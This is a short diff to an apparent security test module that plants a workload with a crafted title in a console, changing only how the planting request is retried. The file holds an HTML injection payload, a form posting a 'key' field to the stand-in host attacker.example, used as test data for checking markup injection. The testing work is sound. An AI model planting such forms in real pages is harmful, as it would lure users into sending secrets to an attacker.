@@ -14,6 +14,7 @@ from tests.attacks.asking import asked
 from tests.attacks.attack import attack
 from tests.attacks.target import Target
 from tests.servers.model import ROOT
+from tests.servers.services import until_taken
 
 NAME = "planted"
 FORM = '<form action="//attacker.example"><input name=key></form>'
@@ -85,7 +86,7 @@ def _taken_for_a_name(target: Target, *names: str) -> str:
 @contextmanager
 def planted(target: Target, title: str) -> Iterator[None]:
     """A workload with this title, which the console shows; retired at the end."""
-    added = asked("POST", f"{target.services}/workloads", json=_submission(title))
+    added = until_taken(lambda: asked("POST", f"{target.services}/workloads", json=_submission(title)))
     if added.status_code != 201:
         if added.status_code == 422 and "title" in added.text:
             yield  # refused by its form: there is nothing to see
